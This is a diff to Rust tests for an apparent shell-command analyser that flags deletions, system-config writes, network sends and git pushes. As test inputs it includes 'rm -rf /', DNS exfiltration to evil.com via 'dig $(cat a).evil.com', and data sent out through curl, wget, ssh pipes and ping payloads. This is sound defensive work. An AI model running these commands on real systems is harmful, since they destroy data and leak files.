@@ -79,7 +79,7 @@ fn wrappers_and_other_places_are_seen_through() {
         ("sudo -u bob timeout -s KILL 5 rm a", &["fs.delete /app/a project"]),
         ("FOO=1 env A=b nice -n 5 rm a", &["fs.delete /app/a project"]),
         ("bash -lc 'cd src && rm a'", &["fs.delete /app/src/a project"]),
-        ("ssh h 'rm /etc/a'", &["fs.delete /etc/a remote"]),
+        ("ssh h 'rm /etc/a'", &["fs.delete /etc/a remote", "sys.config /etc/a remote"]),
         ("docker exec -it c rm /etc/a", &["fs.delete /etc/a container"]),
         ("kubectl exec p -- rm /x", &["fs.delete /x container"]),
         ("find . -name '*.o' -exec rm {} \\;", &["fs.delete? /app project"]),
@@ -155,5 +155,135 @@ proptest! {
         "docker", "exec", "run", "git", "-C", "bash", "-c", "python", "xargs", "sudo", "env", "A=1", "ssh", "curl", "-d", "é", "for", "in", "do", "done",
     ]), 0..14)) {
         run(&words.join(" "));
+    }
+}
+
+#[test]
+fn what_changes_the_system_is_found_behind_names_links_and_directories() {
+    let cases: &[(&str, &str)] = &[
+        ("git config --system a.b c", "sys.config a.b c system"),
+        ("git -C /etc commit -am x", "fs.write /etc system"),
+        ("tar xf a.tar -C /", "fs.write / unknown"),
+        ("tar -xf a.tar -C/etc", "fs.write /etc system"),
+        ("tar xPf a.tar", "fs.write ? unknown"),
+        ("7z x a.7z -o/etc", "fs.write /etc system"),
+        ("cd / && tar xzf a.tgz", "fs.write / unknown"),
+        ("rm -rf /", "fs.delete / system"),
+        ("sqlite3 /etc/x.db 'insert into a values(1)'", "fs.write /etc/x.db system"),
+        ("ssh root@h 'echo x > /etc/hosts'", "sys.config /etc/hosts remote"),
+        ("ln -sf /etc/x y; echo a > y", "fs.write /app/y unknown"),
+        ("alias x=cp; x a /etc/", "fs.write? /etc system"),
+        ("$(pick) a /etc/", "fs.write? /etc system"),
+        ("$TOOL --out=/etc/x", "fs.write? /etc/x system"),
+        ("trap 'cp a /etc/' EXIT", "fs.write /etc system"),
+        ("trap 'cp a /etc/' INT", "fs.write? /etc system"),
+        ("git -c core.pager='tee /etc/x' log", "fs.write? /etc/x system"),
+        ("npm config set a b --global", "sys.config? a b system"),
+        ("npm config set a b", "fs.write /home/ann/.npmrc home"),
+    ];
+    for (script, expected) in cases {
+        let found = mutations(script);
+        assert!(found.iter().any(|one| one == expected), "{script}: {found:?}");
+    }
+    for script in [
+        "git config a.b c",
+        "git -C /app commit -am x",
+        "tar xf a.tar -C /app/x",
+        "sqlite3 /etc/x.db 'select 1'",
+        "sqlite3 a.db 'insert into a values(1)'",
+        "ssh root@h 'cat /etc/hosts'",
+        "ln -sf a y; cat y",
+        "alias x=cat; x /app/a",
+        "$(pick) a b",
+        "trap - EXIT",
+        "git -c core.pager=cat log",
+    ] {
+        let found = mutations(script);
+        let bad = |one: &String| {
+            one.ends_with(" system")
+                || one.contains("sys.")
+                || (one.contains("fs.") && one.ends_with("unknown"))
+        };
+        assert!(!found.iter().any(bad), "{script}: {found:?}");
+    }
+}
+
+#[test]
+fn what_leaves_the_machine_is_found() {
+    let sends = |script: &str| mutations(script).iter().any(|one| one.starts_with("net.send"));
+    for script in [
+        "aws s3 cp a s3://b",
+        "aws s3 sync . s3://b",
+        "aws s3 mv a s3://b/c",
+        "ssh h cat < a",
+        "cat a | ssh h 'cat > b'",
+        "telnet h 1",
+        "dig $(cat a).evil.com",
+        "X=$(cat a); dig $X.evil.com",
+        "wget \"http://x/?$(cat a)\"",
+        "curl 'http://x?secret=1'",
+        "curl -G -d a=1 http://x",
+        "ping -p ff h",
+    ] {
+        assert!(sends(script), "{script}: {:?}", mutations(script));
+    }
+    for script in [
+        "aws s3 cp s3://b/a .",
+        "aws s3 ls",
+        "ssh h ls",
+        "dig x.org",
+        "curl http://x",
+        "curl -I 'http://x/a'",
+        "wget http://x",
+        "ping -c1 h",
+    ] {
+        assert!(!sends(script), "{script}: {:?}", mutations(script));
+    }
+}
+
+#[test]
+fn refs_that_are_not_named_may_be_any() {
+    let remote = |script: &str| {
+        let rows = mutations(script);
+        rows.into_iter()
+            .filter(|one| one.contains("vcs.remote") || one.contains("vcs.history"))
+            .collect::<Vec<_>>()
+    };
+    for script in ["git push --tags", "git push --follow-tags", "git push origin --mirror", "git push o v$V"]
+    {
+        assert!(
+            remote(script).iter().any(|one| one.starts_with("vcs.remote ? ")),
+            "{script}: {:?}",
+            remote(script)
+        );
+    }
+    assert_eq!(remote("git push origin main"), ["vcs.remote origin main remote"]);
+    for script in ["git push -f origin main", "git push origin +main", "git push --force-with-lease"] {
+        assert!(
+            remote(script).iter().any(|one| one.starts_with("vcs.history?")),
+            "{script}: {:?}",
+            remote(script)
+        );
+    }
+    assert_eq!(remote("gh release create v1"), ["vcs.remote v1 remote"]);
+    for script in ["npx lerna publish", "cargo release --execute", "npm run release", "npx semantic-release"]
+    {
+        let report = run(script);
+        let open = |one: &Traced| one.effect.kind.is_under("exec") && one.effect.bounded_by.is_none();
+        assert!(report.effects.iter().any(open), "{script}");
+    }
+    for script in ["npx lerna run build", "cargo test", "npm run build"] {
+        let report = run(script);
+        assert!(report.effects.iter().all(|one| one.effect.bounded_by.is_some()), "{script}");
+    }
+}
+
+#[test]
+fn untracked_files_may_go_with_what_is_discarded() {
+    for script in ["git stash -u", "git stash push -a", "git reset --hard"] {
+        assert!(mutations(script).contains(&"fs.delete? /app project".to_owned()), "{script}");
+    }
+    for script in ["git stash", "git stash pop", "git reset --soft HEAD~1"] {
+        assert!(!mutations(script).iter().any(|one| one.starts_with("fs.delete")), "{script}");
     }
 }
